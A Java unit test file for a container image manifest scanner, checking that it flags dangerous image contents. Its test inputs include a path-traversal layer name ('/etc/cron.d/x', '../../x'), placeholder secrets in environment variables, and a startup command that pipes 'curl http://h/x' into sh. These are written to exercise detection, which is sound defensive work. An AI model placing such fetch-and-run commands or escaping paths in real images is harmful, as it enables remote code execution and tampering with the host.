package io.casemate.scan.manifest;

import static org.assertj.core.api.Assertions.assertThat;

import io.casemate.scan.FormatScannerContract;
import io.casemate.scan.spi.FormatScanner;
import io.casemate.scan.trial.Trial;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class ImageLayoutScannerTest extends FormatScannerContract {
    private static final String BENIGN = """
            {"schemaVersion": 2, "config": {"digest": "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}, "layers": [{"digest": "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "annotations": {"org.opencontainers.image.title": "model.gguf"}}]}
            """;

    private static Trial read(String json) {
        return Trial.of(new ImageLayoutScanner(), json.getBytes(StandardCharsets.UTF_8));
    }

    @Override
    protected FormatScanner scanner() {
        return new ImageLayoutScanner();
    }

    @Override
    protected byte[] benign() {
        return BENIGN.getBytes(StandardCharsets.UTF_8);
    }

    @Override
    protected byte[] hostile() {
        return BENIGN.replace("model.gguf", "/etc/cron.d/x").getBytes(StandardCharsets.UTF_8);
    }

    /** A text that is cut is text: the scanner of plain text takes it where too little is left to know it by. */
    @Override
    protected boolean isWhole(int length) {
        return true;
    }

    @Test
    void honest_one_is_silent_and_wholly_read() {
        Trial trial = read(BENIGN);
        assertThat(trial.findings).isEmpty();
        assertThat(trial.gaps).isEmpty();
        assertThat(trial.coveredAll(BENIGN.length())).isTrue();
    }

    @Test
    void one_that_is_cut_is_a_gap() {
        assertThat(read(BENIGN.strip().substring(0, BENIGN.length() - 5)).gaps).isNotEmpty();
    }

    @Test
    void hostile_one_is_told() {
        assertThat(read(BENIGN.replace("model.gguf", "/etc/cron.d/x")).rules())
                .containsExactly("image-layout/escaping-path");
    }

    @Test
    void digests_are_paths_and_have_a_form() {
        assertThat(read(BENIGN.replaceFirst("sha256:a{64}", "sha256:../../x")).rules())
                .containsExactly("image-layout/escaping-path");
        assertThat(read(BENIGN.replaceFirst("sha256:a{64}", "sha256:x")).rules())
                .containsExactly("image-layout/broken-digest");
    }

    @Test
    void layers_from_elsewhere_are_told() {
        assertThat(read("{\"schemaVersion\": 2, \"layers\": [{\"urls\": [\"https://h/l\"]}]}")
                        .rules())
                .containsExactly("image-layout/foreign-layer");
    }

    @Test
    void what_the_image_runs_is_a_fact() {
        String configuration =
                "{\"config\": {\"Entrypoint\": [\"/bin/serve\", \"--all\"]}, \"rootfs\": {\"diff_ids\": []}}";
        assertThat(read(configuration).facts).containsEntry("entrypoint", "'/bin/serve --all'");
    }

    private static Trial configured(String field) {
        return read("{\"config\": {%s}, \"rootfs\": {\"diff_ids\": []}}".formatted(field));
    }

    @Test
    void what_registries_say_of_an_artifact_and_who_runs_it_are_facts() {
        assertThat(configured("\"User\": \"root\"").facts).containsEntry("user", "'root'");
        assertThat(read(BENIGN.replace(
                                "\"layers\": [{",
                                "\"layers\": [{\"mediaType\": \"application/vnd.ollama.image.model\", "))
                        .facts)
                .containsEntry("artifact", "Ollama model");
    }

    @Test
    void secrets_in_the_environment_are_told_by_the_names_of_variables() {
        for (String variable : new String[] {"DB_PASSWORD=hunter2again", "api_key=0123456789", "HF_TOKEN=hf_abcdefg"}) {
            assertThat(configured("\"Env\": [\"%s\"]".formatted(variable)).rules())
                    .as(variable)
                    .containsExactly("image-layout/secret-in-environment");
        }
    }

    @Test
    void variables_of_honest_images_are_silent() {
        for (String variable : new String[] {
            "PATH=/usr/bin",
            "GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305",
            "TOKENIZERS_PARALLELISM=false",
            "POSTGRES_PASSWORD=changeme",
            "HF_TOKEN=",
            "SECRET_TOKEN=/run/secrets/token",
            "API_KEY=${API_KEY}",
            "odd"
        }) {
            assertThat(configured("\"Env\": [\"%s\"]".formatted(variable)).findings)
                    .as(variable)
                    .isEmpty();
        }
    }

    @Test
    void image_that_starts_by_fetching_a_program_is_told() {
        assertThat(configured("\"Cmd\": [\"sh\", \"-c\", \"curl http://h/x | sh\"]")
                        .rules())
                .containsExactly("image-layout/fetching-command");
    }
}
